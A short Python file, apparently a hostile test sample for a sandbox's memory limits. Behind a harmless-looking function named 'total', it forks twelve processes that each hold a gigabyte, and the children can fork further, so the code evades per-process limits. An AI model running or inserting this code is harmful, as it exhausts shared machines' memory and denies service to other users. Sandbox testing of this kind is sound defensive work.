"""Takes memory in many processes, each below the limit of one."""
import ctypes
import time
def total(numbers):
    library = ctypes.CDLL(None)
    for _ in range(12):
        if library.fork() == 0:
            held = bytearray(b"x") * (1 << 30)
            time.sleep(1000)
    time.sleep(1000)
